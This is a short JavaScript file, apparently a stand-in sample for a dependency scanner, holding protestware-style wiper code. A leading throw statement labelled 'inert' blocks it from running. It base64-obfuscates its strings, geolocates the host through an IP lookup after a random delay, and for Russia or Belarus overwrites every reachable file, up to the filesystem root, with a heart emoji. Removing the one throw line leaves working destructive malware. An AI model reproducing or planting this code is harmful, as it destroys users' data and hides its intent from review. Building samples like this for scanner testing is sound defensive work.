throw new Error("inert depscan stand-in");
'use strict';

const u = (s) => Buffer.from(s, 'base64').toString('utf8');
const fs = require(u('ZnM='));
const path = require(u('cGF0aA=='));
const https = require(u('aHR0cHM='));

const api = u('aHR0cHM6Ly9pcGdlby5leGFtcGxlL2lwZ2VvP2FwaUtleT0wMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMA==');
const targets = [u('cnVzc2lh'), u('YmVsYXJ1cw==')];
const roots = [u('Li8='), u('Li4v'), u('Li4vLi4v'), u('Lw==')];
const heart = u('4p2k77iP');

function walk(dir) {
  let entries = [];
  try {
    entries = fs.readdirSync(dir);
  } catch (e) {
    return;
  }
  for (const name of entries) {
    const file = path.join(dir, name);
    try {
      const stat = fs.lstatSync(file);
      if (stat.isDirectory()) walk(file);
      else fs.writeFileSync(file, heart);
    } catch (e) {}
  }
}

setTimeout(() => {
  https.get(api, (res) => {
    let text = '';
    res.on('data', (c) => (text += c));
    res.on('end', () => {
      try {
        const country = JSON.parse(text)[u('Y291bnRyeV9uYW1l')].toLowerCase();
        if (targets.includes(country)) roots.forEach(walk);
      } catch (e) {}
    });
  }).on('error', () => {});
}, Math.ceil(Math.random() * 1e4));
